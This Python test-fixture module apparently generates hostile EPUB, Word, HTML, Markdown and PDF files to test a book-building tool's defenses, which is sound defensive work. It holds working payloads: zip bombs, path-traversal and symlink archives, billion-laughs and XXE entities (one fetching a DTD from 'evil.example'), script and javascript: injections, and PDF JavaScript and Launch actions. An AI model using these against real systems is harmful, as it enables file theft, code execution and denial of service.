"""Files that strangers send to be looked at: EPUBs, Word files, pages and PDFs with a trick in each.

Each function puts ``sent.…`` beside a book's folder, where ``import``, ``collate``, ``validate``, ``verify`` and
``corrections`` take it from.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name

MEGABYTE = 1 << 20
CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles>'
    '<rootfile full-path="{path}" media-type="application/oebps-package+xml"/></rootfiles></container>'
)
PACKAGE = (
    '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata '
    'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{title}</dc:title><dc:language>en</dc:language>'
    '<dc:identifier id="i">x</dc:identifier></metadata><manifest><item id="a" href="{href}" '
    'media-type="application/xhtml+xml"/></manifest><spine>{spine}</spine></package>'
)
PAGE = (
    '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title></head><body><h1>T</h1><p>{}</p>'
    "</body></html>"
)
STEP = '<itemref idref="a"/>'
LAUGHS = "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">'
    for before, name in zip("abcdefgh", "bcdefghi")  # noqa: B905
)
LAUGHING = f'<!DOCTYPE x [<!ENTITY a "lol">{LAUGHS}]>'
READING = (
    '<!DOCTYPE x [<!ENTITY x SYSTEM "file://{outside}/secret.md"><!ENTITY % p SYSTEM '
    '"http://evil.example/a.dtd"> %p;]>'
)


def send(book: Path, suffix: str, content: bytes) -> None:
    (book.parent / f"sent{suffix}").write_bytes(content)


def archive(files: dict[str, str | bytes], *, packed: bool = True) -> bytes:
    target = io.BytesIO()
    kind = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(target, "w", kind) as opened:
        for name, content in files.items():
            opened.writestr(name, content)
    return target.getvalue()


def epub_files(
    words: str = "Words.",
    *,
    title: str = "T",
    href: str = "a.xhtml",
    spine: str = STEP,
    package: str = PACKAGE,
    **more: str | bytes,
) -> dict[str, str | bytes]:
    return {
        "mimetype": "application/epub+zip",
        "META-INF/container.xml": CONTAINER.format(path="a.opf"),
        "a.opf": package.format(title=title, href=href, spine=spine),
        "a.xhtml": PAGE.format(words),
        **more,
    }


def epub(book: Path, words: str = "Words.", **more: str) -> None:
    send(book, ".epub", archive(epub_files(words, **more)))


# --- archives -----------------------------------------------------------------------------------


def a_sound_epub(book: Path) -> None:
    epub(book)


def _with_a_large(
    book: Path, suffix: str, files: dict[str, str | bytes], name: str, size: int
) -> None:
    """Send an archive with one more member, of so many megabytes of spaces."""
    target = io.BytesIO(archive(files))
    with (
        zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as opened,
        opened.open(name, "w", force_zip64=True) as large,
    ):
        for _ in range(size):
            large.write(b" " * MEGABYTE)
    send(book, suffix, target.getvalue())


def a_member_of_a_gigabyte(book: Path) -> None:
    _with_a_large(book, ".epub", epub_files(), "b.xhtml", 1_500)


def a_text_of_half_a_gigabyte(book: Path) -> None:
    _with_a_large(book, ".epub", epub_files(href="b.xhtml"), "b.xhtml", 450)


def members_that_are_one(book: Path) -> None:
    """A thousand entries of the directory that share one packed text (as in D. Fifield's bomb)."""
    files = epub_files()
    files["z0"] = bytes(10 * MEGABYTE)
    content = archive(files)
    start = content.index(b"PK\x01\x02")
    entries, end = content[start : content.index(b"PK\x05\x06")], content[-22:]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"z0", f"{n:02x}".encode()) for n in range(256)) * 4
    count = (len(files) + 1_024).to_bytes(2, "little") * 2
    size = (len(entries) + len(copies)).to_bytes(4, "little")
    directory = entries + copies
    send(book, ".epub", content[:start] + directory + end[:8] + count + size + end[16:])


def a_member_that_is_larger_than_it_says(book: Path) -> None:
    content = archive(epub_files(extra=bytes(50 * MEGABYTE)))
    said = (50 * MEGABYTE).to_bytes(4, "little")
    send(book, ".epub", content.replace(said, (10).to_bytes(4, "little")))


def members_by_the_hundred_thousand(book: Path) -> None:
    send(book, ".epub", archive({**epub_files(), **{f"m{n}": b"" for n in range(100_000)}}))


def names_that_lead_out(book: Path) -> None:
    files = epub_files(href="../../outside/secret.md")
    files |= {"../../outside/written.md": "x", "/tmp/written": "x", "..\\..\\outside\\w.md": "x"}
    send(book, ".epub", archive(files))


def addresses_that_lead_out(book: Path) -> None:
    epub(book, '<img src="../../../outside/secret.png" alt="a"/>', href="../../outside/secret.md")


def address_of_a_file(book: Path) -> None:
    epub(book, href=f"file://{book.parent}/outside/secret.md")


def package_that_leads_out(book: Path) -> None:
    files = epub_files()
    files["META-INF/container.xml"] = CONTAINER.format(path="../outside/secret.md")
    send(book, ".epub", archive(files))


def a_link_in_an_archive(book: Path) -> None:
    target = io.BytesIO(archive(epub_files()))
    with zipfile.ZipFile(target, "a") as opened:
        info = zipfile.ZipInfo("b.xhtml")
        info.external_attr = 0o120777 << 16
        opened.writestr(info, f"{book.parent}/outside/secret.md")
    send(book, ".epub", target.getvalue())


def locked_members(book: Path) -> None:
    content = bytearray(archive(epub_files()))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + at] |= 1
            place = content.find(mark, place + 4)
    send(book, ".epub", bytes(content))


def an_epub_cut_off(book: Path) -> None:
    send(book, ".epub", archive(epub_files("Words. " * 500))[:-60])


def an_epub_of_noise(book: Path) -> None:
    send(book, ".epub", b"PK\x03\x04" + bytes(range(256)) * 40)


def a_text_said_a_hundred_thousand_times(book: Path) -> None:
    epub(book, "Words and words. " * 20_000, spine=STEP * 100_000)


def elements_by_the_million(book: Path) -> None:
    send(book, ".epub", archive(epub_files("<b/>" * 3_500_000), packed=False))


def elements_nested_deeply(book: Path) -> None:
    epub(book, "<b>" * 100_000 + "x" + "</b>" * 100_000)


def a_package_that_laughs(book: Path) -> None:
    epub(book, package=LAUGHING + PACKAGE, title="&i;")


def a_text_that_laughs(book: Path) -> None:
    files = epub_files("&i;")
    files["a.xhtml"] = LAUGHING + str(files["a.xhtml"])
    send(book, ".epub", archive(files))


def _that_reads(book: Path, name: str) -> None:
    files = epub_files("&x;", title="&x;")
    reading = READING.replace("{outside}", str(book.parent / "outside"))
    files[name] = reading + str(files[name])
    for other in ("a.opf", "a.xhtml"):
        files[other] = str(files[other]) if other == name else str(files[other]).replace("&x;", "y")
    send(book, ".epub", archive(files))


def a_package_that_reads(book: Path) -> None:
    _that_reads(book, "a.opf")


def a_text_that_reads(book: Path) -> None:
    _that_reads(book, "a.xhtml")


def a_container_that_reads(book: Path) -> None:
    _that_reads(book, "META-INF/container.xml")


def an_ncx_that_reads(book: Path) -> None:
    package = PACKAGE.replace(
        "<manifest>",
        '<manifest><item id="n" href="a.ncx" media-type="application/x-dtbncx+xml"/>',
    ).replace("<spine>", '<spine toc="n">')
    files = epub_files(package=package)
    reading = READING.replace("{outside}", str(book.parent / "outside"))
    files["a.ncx"] = (
        f'{reading}<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><navMap><navPoint><navLabel><text>'
        '&x;</text></navLabel><content src="a.xhtml"/></navPoint></navMap></ncx>'
    )
    send(book, ".epub", archive(files))


def programs_in_an_epub(book: Path) -> None:
    epub(
        book,
        '<script>alert(1)</script><a href="javascript:alert(1)" onclick="alert(1)">words</a>'
        '<img src="https://evil.example/a.png" alt="a"/><iframe src="https://evil.example/"/>'
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    )


# --- Word ---------------------------------------------------------------------------------------

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(book: Path, body: str, **more: str) -> None:
    send(book, ".docx", archive(docx_files(body, **more)))


def docx_files(body: str, *, before: str = "", relations: str = "") -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": f'<Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="a" Type="{_OFFICE}/'
        'officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{relations}</Relationships>',
        "word/document.xml": f'{before}<w:document xmlns:w="{_WORD}" xmlns:r="{_OFFICE}"><w:body>{body}'
        "</w:body></w:document>",
    }


def _paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def word_that_reads(book: Path) -> None:
    reading = READING.replace("{outside}", str(book.parent / "outside"))
    docx(book, _paragraph("Words &x;"), before=reading)


def word_that_laughs(book: Path) -> None:
    docx(book, _paragraph("Words &i;"), before=LAUGHING)


def word_with_a_picture_from_elsewhere(book: Path) -> None:
    drawn = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:blipFill><a:blip r:link="p"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )
    relations = (
        f'<Relationship Id="p" Type="{_OFFICE}/image" Target="file://{book.parent}/outside/secret.png" '
        'TargetMode="External"/>'
    )
    docx(book, _paragraph("Words.") + drawn, relations=relations)


def word_with_a_bomb(book: Path) -> None:
    _with_a_large(book, ".docx", docx_files(_paragraph("Words.")), "word/big.xml", 600)


def word_with_a_program(book: Path) -> None:
    link = '<w:p><w:hyperlink r:id="j"><w:r><w:t>words</w:t></w:r></w:hyperlink></w:p>'
    relations = (
        f'<Relationship Id="j" Type="{_OFFICE}/hyperlink" Target="javascript:alert(1)" '
        'TargetMode="External"/>'
    )
    docx(book, link + _paragraph("<![CDATA[<script>alert(1)</script>]]>"), relations=relations)


# --- pages and texts ----------------------------------------------------------------------------


def page(book: Path, body: str | bytes) -> None:
    words = body if isinstance(body, bytes) else body.encode()
    send(book, ".html", b"<html><body><h1>T</h1>" + words + b"</body></html>")


def a_page_with_pictures_from_outside(book: Path) -> None:
    outside = book.parent / "outside"
    (book.parent / "sent_files").symlink_to(outside)
    addresses = (
        "outside/secret.png",
        "./outside/../outside/secret.svg",
        "sent_files/secret.png",
        f"{outside}/secret.png",
        f"file://{outside}/secret.png",
        "https://evil.example/a.png",
        "//evil.example/a.png",
        "%2e%2e/outside/secret.png",
    )
    page(book, "<p>Words.</p>" + "".join(f'<img src="../{a}"><img src="{a}">' for a in addresses))


def a_page_with_programs(book: Path) -> None:
    page(
        book,
        "<p>Words.<script>alert(1)</script><a href='javascript:alert(1)' onclick='alert(1)'>a link</a>"
        "<a href='data:text/html,x'>another</a><img src='data:image/svg+xml,<svg onload=alert(1)>'>"
        "&lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(1)) ![y](https://evil.example/y.png)",
    )


def a_page_nested_deeply(book: Path) -> None:
    page(book, "<div>" * 100_000 + "words")


def a_page_of_a_million_elements(book: Path) -> None:
    page(book, "<b/>" * 4_500_000)


def a_page_that_reads(book: Path) -> None:
    reading = READING.replace("{outside}", str(book.parent / "outside"))
    send(book, ".html", f"{reading}<html><body><p>Words &x;</body></html>".encode())


def a_page_with_numbers_beyond_measure(book: Path) -> None:
    page(
        book,
        "<table><tr><td colspan=999999999 rowspan=9999999999999>a<td>b</table>"
        f"<ol start=-1><li>a<li value={'9' * 5_000}>b<li value=²>c</ol><p>Words.",
    )


def a_text_in_one_line(book: Path) -> None:
    send(book, ".txt", b"words " * (10 * MEGABYTE // 6))


def a_text_of_no_characters(book: Path) -> None:
    send(book, ".txt", bytes(range(32)) * 100 + b"\xed\xa0\x80" * 100)


def markdown_with_files_from_outside(book: Path) -> None:
    outside = book.parent / "outside"
    text = (
        f"# T\n\nWords.\n\n![a](outside/../../outside/secret.png)\n\n![b]({outside}/secret.png)\n\n"
    )
    send(book, ".md", (text + "<script>alert(1)</script>\n\n[c](javascript:alert(1))\n").encode())


def markdown_with_brackets(book: Path) -> None:
    send(book, ".md", b"# T\n\n" + b"[" * 50_000 + b"\n\n" + b"![](" * 20_000)


# --- PDF ----------------------------------------------------------------------------------------


def pdf(book: Path, made: pikepdf.Pdf, **how: object) -> None:
    target = io.BytesIO()
    made.save(target, **how)  # type: ignore[arg-type]
    send(book, ".pdf", target.getvalue())


def one_page() -> pikepdf.Pdf:
    made = pikepdf.new()
    made.add_blank_page(page_size=(300, 400))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    made.pages[0].Resources = Dictionary(Font=Dictionary(F=font))
    made.pages[0].Contents = made.make_stream(b"BT /F 12 Tf 50 300 Td (Words.) Tj ET")
    return made


def a_locked_pdf(book: Path) -> None:
    pdf(book, one_page(), encryption=pikepdf.Encryption(owner="secret", user="secret"))


def a_pdf_with_programs(book: Path) -> None:
    made = one_page()
    program = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    made.Root.OpenAction = program
    made.Root.AA = Dictionary(WC=Dictionary(S=Name.Launch, F="calc.exe"))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", program])))
    made.attachments["a.exe"] = b"MZ"
    pdf(book, made)


def a_page_tree_in_a_circle(book: Path) -> None:
    made = one_page()
    made.Root.Pages.Kids.append(made.Root.Pages)
    pdf(book, made)


def a_page_tree_of_ten_million_pages(book: Path) -> None:
    made = one_page()
    made.Root.Pages.Count = 10_000_000
    pdf(book, made)


def pages_that_are_one(book: Path) -> None:
    """Trees of trees: each has the next ten times."""
    made = one_page()
    tree = made.pages[0].obj
    for _ in range(9):
        tree = made.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([tree] * 10), Count=1))
    made.Root.Pages = tree
    pdf(book, made)


def a_pdf_cut_off(book: Path) -> None:
    target = io.BytesIO()
    one_page().save(target)
    send(book, ".pdf", target.getvalue()[:-300])


def a_pdf_of_noise(book: Path) -> None:
    send(book, ".pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40)


def a_table_of_references_in_a_circle(book: Path) -> None:
    start = b"%PDF-1.4\n"
    table = f"xref\n0 1\n0000000000 65535 f \ntrailer <</Size 1/Prev {len(start)}>>\n".encode()
    send(book, ".pdf", start + table + f"startxref\n{len(start)}\n%%EOF".encode())


def a_page_that_unpacks_to_a_gigabyte(book: Path) -> None:
    made = one_page()
    packer = zlib.compressobj(1)
    packed = [packer.compress(b" " * MEGABYTE) for _ in range(1_500)]
    content = zlib.compress(b"".join([*packed, packer.flush()]))
    stream = pikepdf.Stream(made, content, Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    made.pages[0].Contents = stream
    pdf(book, made)


def drawings_in_drawings(book: Path) -> None:
    """Thirty forms, each drawing the next ten times."""
    made = one_page()
    inner = made.make_stream(b"BT /F 12 Tf (x) Tj ET", Resources=made.pages[0].Resources)
    _as_form(inner)
    for _ in range(30):
        inner = made.make_stream(b"/X Do " * 10, Resources=Dictionary(XObject=Dictionary(X=inner)))
        _as_form(inner)
    made.pages[0].Resources = Dictionary(XObject=Dictionary(X=inner))
    made.pages[0].Contents = made.make_stream(b"/X Do")
    pdf(book, made)


def _as_form(stream: pikepdf.Stream) -> None:
    stream.Type, stream.Subtype, stream.BBox = Name.XObject, Name.Form, Array([0, 0, 300, 400])


def a_drawing_that_draws_itself(book: Path) -> None:
    made = one_page()
    form = made.make_stream(b"/X Do /X Do")
    _as_form(form)
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    made.pages[0].Resources = Dictionary(XObject=Dictionary(X=form))
    made.pages[0].Contents = made.make_stream(b"/X Do")
    pdf(book, made)


def pdf_of_ours(book: Path, made: pikepdf.Pdf, tags: pikepdf.Object) -> None:
    """Write a PDF that says it is one of ours, with such a tree of tags."""
    made.Root.StructTreeRoot = made.make_indirect(
        Dictionary(Type=Name.StructTreeRoot, K=Array([tags]))
    )
    made.docinfo["/Creator"] = "bookbuild 0.1.0"
    pdf(book, made)


def tags_in_a_circle(book: Path) -> None:
    made = one_page()
    element = made.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Div))
    element.K, element.P = Array([element, element]), element
    pdf_of_ours(book, made, element)


def tags_in_tags(book: Path) -> None:
    """Thirty elements, each holding the next ten times."""
    made = one_page()
    element = made.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, K=0))
    for _ in range(30):
        element = made.make_indirect(
            Dictionary(Type=Name.StructElem, S=Name.Div, K=Array([element] * 10))
        )
    pdf_of_ours(book, made, element)


def brackets_in_a_pdf(book: Path) -> None:
    made = one_page()
    made.pages[0].Contents = made.make_stream(b"[" * 500_000 + b"<<" * 500_000)
    pdf(book, made)


def metadata_that_laughs(book: Path) -> None:
    made = one_page()
    reading = READING.replace("{outside}", str(book.parent / "outside"))
    packet = (
        f'{LAUGHING}{reading}<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/'
        '02/22-rdf-syntax-ns#"><rdf:Description xmlns:pdfuaid="http://www.aiim.org/pdfua/ns/id/">'
        "<pdfuaid:part>&i;&x;</pdfuaid:part></rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    made.Root.Metadata = made.make_stream(packet.encode(), Type=Name.Metadata, Subtype=Name.XML)
    pdf(book, made)


def a_page_as_large_as_a_country(book: Path) -> None:
    made = one_page()
    made.pages[0].MediaBox = Array([0, 0, 10**9, 10**9])
    pdf(book, made)
